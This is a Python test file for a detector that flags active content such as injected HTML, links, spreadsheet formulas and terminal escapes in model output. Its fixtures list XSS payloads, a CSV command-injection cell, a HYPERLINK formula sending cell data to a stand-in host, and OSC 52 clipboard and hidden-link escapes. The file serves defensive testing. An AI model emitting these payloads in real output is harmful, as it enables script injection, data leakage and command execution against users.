import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.detectors.text.active import ActiveContent
from bartizan.types import Origin, PartKind

ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script of SVG": "<svg:script xlink:href=//x.test/a.js />",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without spaces": "<svg/onload=alert(1)>",
    "handler behind a bracket": '<img alt=">" onerror = "alert(1)">',
    "link": "[a](javascript:alert(1))",
    "link with a tab": "[a](java\tscript:alert(1))",
    "link by reference": "[a]: vbscript:x",
    "attribute": "<a href=' JaVaScRiPt&colon;alert(1)'>",
    "entities": '<a href="&#106;&#97;&#118;&#97;script:1">',
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "frame": "<iframe src=//x.test>",
    "object": "<object data=x>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//x.test">',
    "base": "<base href=//x.test>",
    "form": "<form action=//x.test>",
    "animation": "<svg><animate attributeName=href values=x>",
    "expression": '<p style="width:expression(alert(1))">',
    "import": '@import "//x.test/a.css"',
    "command in a cell": "a,=cmd|' /C calc'!A0",
    "OSC 8": "\x1b]8;;http://x.test\x07here\x1b]8;;\x07",
    "OSC 52": "\x1b]52;c;cm0gLXJm\x07",
    "OSC as one character": "\x9d52;c;cm0=\x9c",
    "erase": "done\x1b[2J\x1b[H",
    "concealed": "\x1b[8mhidden\x1b[0m",
}
LESS = {
    "style": ("<style>*{color:red}</style>", 0.5),
    "style sheet": ("<link rel=stylesheet href=x>", 0.5),
    "formula": ('=HYPERLINK("http://x.test?"&A1)', 0.5),
    "colour": ("\x1b[31mred", 0.25),
    "overstruck": ("a\x08b", 0.25),
    "code span": ("Use `<script>` there", 0.25),
}
HARMLESS = (
    "```html\n<script>alert(1)</script>\n```\nThat is all.",
    "~~~\n<img src=x onerror=y>\n~~~",
    "1. Do:\n   ```html\n   <form action=x>\n   ```\n2. Done",
    "```html\n<script>",
    "if a < b and once = 3 then x <T> only = 5",
    "<b>bold</b> and <a href='https://example.com'>a link</a>",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "The onclick handler and javascript: a short history. data: see below.",
    "Set PS1='\\033[31m' in your profile",
    "A List<Object> of Map<String, Object> is typed.",
    "=SUM(A1:A3) and =IF(A1, 2, 3)",
    "a\r\nb\tc",
    "",
)
NO_CODE = {
    "no fence within a line": "see ```\n<script>",
    "list ends its fence": "- a\n\n  ```\n\n<script>",
    "no fence behind a marker": "- ```\n\n<script>",
    "quote ends its fence": "> ```\n<script>",
    "HTML goes on": "<div>\n```\n<script>",
    "comment goes on": "<!--\n\n```\n--><script>",
    "fence is closed": "```\nx\n```\n<script>",
    "closed by a longer one": "```\nx\n`````\n<script>",
    "backtick in the info": "``` a`b\n<script>",
    "unclosed span": "` <script>\n",
    "escaped span": "\\`<script>\\`",
    "span closed before": "`a` <script>",
    "spans of two lengths": "``a` <script>\n",
}


@pytest.fixture(scope="module")
def active(judge):
    return judge(ActiveContent(), Origin.MODEL)


@pytest.mark.parametrize("text", ACTIVE.values(), ids=ACTIVE.keys())
def test_what_acts_scores_one_and_is_marked(active, text):
    assert active.score(f"Look:\n{text}\n") >= 1.0
    assert all(marked in text for marked in map(str.strip, active.pointed(f"Look:\n{text}\n")))
    assert active.pointed(f"Look:\n{text}\n")


@pytest.mark.parametrize(("text", "weight"), LESS.values(), ids=LESS.keys())
def test_what_acts_less_scores_less(active, text, weight):
    assert active.score(text) == weight
    assert active.pointed(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_only_shown_scores_nothing(active, text):
    assert active.score(text) == 0.0
    assert active.evidence(text).spans == ()


@pytest.mark.parametrize("text", NO_CODE.values(), ids=NO_CODE.keys())
def test_what_only_looks_like_code_is_none(active, text):
    assert active.score(text) >= 1.0


def test_terminals_know_no_code_blocks(active):
    assert active.score("```\n\x1b]52;c;cm0=\x07\n```") == 1.0


def test_tools_may_write_web_pages_but_not_to_terminals(active):
    page = json.dumps({"path": "a.html", "content": "<script>go()</script>"})
    assert active.score(page, PartKind.TOOL_CALL) == 0.0
    escape = json.dumps({"message": "ok \x1b]52;c;cm0=\x07"})
    assert active.score(escape, PartKind.TOOL_CALL) == 1.0
    assert active.pointed(escape, PartKind.TOOL_CALL) == ["\\u001b]5"]


def test_masking_what_is_marked_leaves_nothing_active(active):
    for text in ACTIVE.values():
        spans = active.evidence(text).spans
        rest = "".join(" " if any(a <= i < b for a, b in spans) else c for i, c in enumerate(text))
        assert active.score(rest) < 1.0, rest


@pytest.mark.parametrize(
    "text",
    ["\n\n".join((*ACTIVE.values(), *(t for t, _ in LESS.values()))), "\n".join(HARMLESS), *NO_CODE.values()],
)
def test_no_beginning_of_a_text_scores_more_than_the_whole(active, text):
    last = 0.0
    for end in range(len(text) + 1):
        value = active.score(text[:end])
        assert value >= last, text[:end]
        last = value


PIECES = (
    "<",
    "script>",
    "```",
    "`",
    "\n",
    "  ",
    "> ",
    "- ",
    "<div>",
    "~~~",
    "\\",
    "x",
    "<img onerror=",
    "\x1b[31m",
    "é",
    "<!--",
)


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_growth_and_spans_of_anything(active, text):
    scores = [active.score(text[:cut]) for cut in range(len(text) + 1)]
    assert scores == sorted(scores)
    for start, end in active.evidence(text).spans:
        assert 0 <= start < end <= len(text)
